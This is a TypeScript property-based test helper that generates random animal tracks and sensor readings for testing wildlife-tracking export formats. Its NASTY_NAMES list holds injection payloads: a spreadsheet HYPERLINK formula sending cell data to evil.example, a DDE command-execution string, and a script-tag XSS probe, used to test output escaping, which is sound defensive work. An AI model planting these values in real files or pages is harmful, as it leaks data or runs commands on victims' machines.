import fc from 'fast-check';
import { DOUBTS } from '../../src/domain/quality/doubt.ts';
import { COLUMN_NAMES, type ColumnName, type FixBlock } from '../../src/history/fix-block.ts';
import type { TrackAbout, TrackFormat, TrackOf, TrackPart } from '../../src/history/formats/track-format.ts';
import { evenly } from '../support/shapes.ts';

/** A fix of a track, with what its collar reported beside it. */
export interface TrackRow {
  readonly at: number;
  readonly lon: number;
  readonly lat: number;
  readonly doubts: number;
  readonly sensors: Readonly<Partial<Record<ColumnName, number>>>;
}

/** Some fixes as a block; what was not reported is NaN. */
export function aBlock(
  rows: readonly TrackRow[],
  collar = '30211',
  columns: readonly ColumnName[] = COLUMN_NAMES,
): FixBlock {
  return {
    collar,
    length: rows.length,
    at: Float64Array.from(rows, ({ at }) => at),
    lon: Float64Array.from(rows, ({ lon }) => lon),
    lat: Float64Array.from(rows, ({ lat }) => lat),
    doubts: Float64Array.from(rows, ({ doubts }) => doubts),
    columns: Object.fromEntries(
      columns.map((name) => [name, Float64Array.from(rows, ({ sensors }) => sensors[name] ?? NaN)]),
    ),
  };
}

/** What a format is given: parts of some animals, some of which have no fix. */
export interface Answer {
  readonly about: TrackAbout;
  readonly parts: readonly TrackPart[];
}

/** All fixes of an answer, in order. */
export function rowsOf({ parts }: Pick<Answer, 'parts'>) {
  return parts.flatMap(({ animal, segment, block }) =>
    Array.from({ length: block.length }, (_, i) => ({
      animal,
      segment,
      collar: block.collar,
      at: block.at[i]!,
      lon: block.lon[i]!,
      lat: block.lat[i]!,
      doubts: block.doubts[i]!,
      sensor: (name: ColumnName) => block.columns[name]?.[i] ?? NaN,
    })),
  );
}

/** What a format writes of an answer, as one piece. */
export async function written(format: TrackFormat, { parts, about }: Answer): Promise<Buffer> {
  const pieces: Buffer[] = [];
  for await (const piece of format.write(inOrder(parts), about)) pieces.push(Buffer.from(piece));
  return Buffer.concat(pieces);
}

async function* inOrder(parts: readonly TrackPart[]): AsyncGenerator<TrackPart, void, void> {
  for (const part of parts) yield await Promise.resolve(part);
}

/** Names that somebody gives an animal to see what happens. */
export const NASTY_NAMES = [
  '=HYPERLINK("http://evil.example/?"&A1,"Sofia")',
  '+1+cmd|" /C calc"!A0',
  '-2+3',
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r=1+1',
  '＝1+1',
  'a,b;c',
  'say "Sofia"',
  'two\nlines\r\nthree',
  '<script>alert(1)</script>',
  ']]></name><name>&amp; &nbsp; &#0;',
  'null\u0000 bell\u0007 half\ud800',
  'София 🐆',
  ' ',
];

const aName = () => fc.oneof(fc.constantFrom(...NASTY_NAMES), fc.string({ minLength: 1, unit: 'binary' }));

const aLongitude = () =>
  fc.oneof(evenly(-180, 180), fc.constantFrom(-180, 180, -179.9999999, -122.4, 0, -0, 1e-7, -2.5e-9));

const SENSOR_VALUES: Readonly<Record<ColumnName, fc.Arbitrary<number>>> = {
  receivedAt: fc.integer({ min: 0, max: Date.UTC(2100, 0, 1) }),
  late: fc.constantFrom(0, 1),
  altM: evenly(-12_000, 20_000),
  accuracyM: fc.oneof(evenly(0, 10_000), fc.constant(1e-7)),
  hdop: fc.oneof(evenly(0, 1_000), fc.constant(1e-7)),
  satellites: fc.integer({ min: 0, max: 200 }),
  speedMps: evenly(0, 100),
  headingDeg: fc.oneof(evenly(0, 360), fc.constant(360)),
  temperatureC: evenly(-100, 100),
  batteryV: fc.integer({ min: 0, max: 20_000 }).map((mv) => mv / 1_000),
  activity: evenly(0, 1e6),
  seq: fc.integer({ min: 0, max: 2 ** 53 - 1 }),
};

const aRow = (): fc.Arbitrary<Omit<TrackRow, 'at'>> =>
  fc.record({
    lon: aLongitude(),
    lat: fc.oneof(evenly(-90, 90), fc.constantFrom(-90, 90, 0, -33.25)),
    doubts: fc.oneof(fc.constant(0), fc.integer({ min: 1, max: 2 ** DOUBTS.length - 1 })),
    sensors: fc.record(SENSOR_VALUES, { requiredKeys: [] }),
  });

/** Blocks of segments: how many fixes each, and of which collar. */
const aTrack = () =>
  fc.record({
    name: aName(),
    species: fc.option(fc.oneof(aName(), fc.constant('Panthera pardus orientalis')), { nil: undefined }),
    from: fc.integer({ min: 0, max: Date.UTC(2099, 0, 1) }),
    segments: fc.array(
      fc.array(
        fc.record({
          collar: fc.constantFrom('30211', '-4.b', 'A_7'),
          rows: fc.array(fc.tuple(fc.integer({ min: 1, max: 9e8 }), aRow()), { minLength: 1, maxLength: 4 }),
        }),
        { minLength: 1, maxLength: 3 },
      ),
      { maxLength: 3 },
    ),
  });

/** Up to three animals with any names, places, times, sensors, gaps and changes of the collar; some without a fix, or none at all. */
export function anAnswer(): fc.Arbitrary<Answer> {
  return fc.array(aTrack(), { maxLength: 3 }).map((tracks) => {
    const animals = tracks.map(({ name, species }, index): TrackOf => ({ id: `animal-${index}`, name, species }));
    const parts = tracks.flatMap(({ segments, from }, index) => {
      let at = from;
      return segments.flatMap((blocks, segment) =>
        blocks.map(({ collar, rows }): TrackPart => ({
          animal: animals[index]!,
          segment,
          block: aBlock(
            rows.map(([later, row]) => ({ ...row, at: (at += later) })),
            collar,
          ),
        })),
      );
    });
    return { about: { animals, several: true }, parts };
  });
}
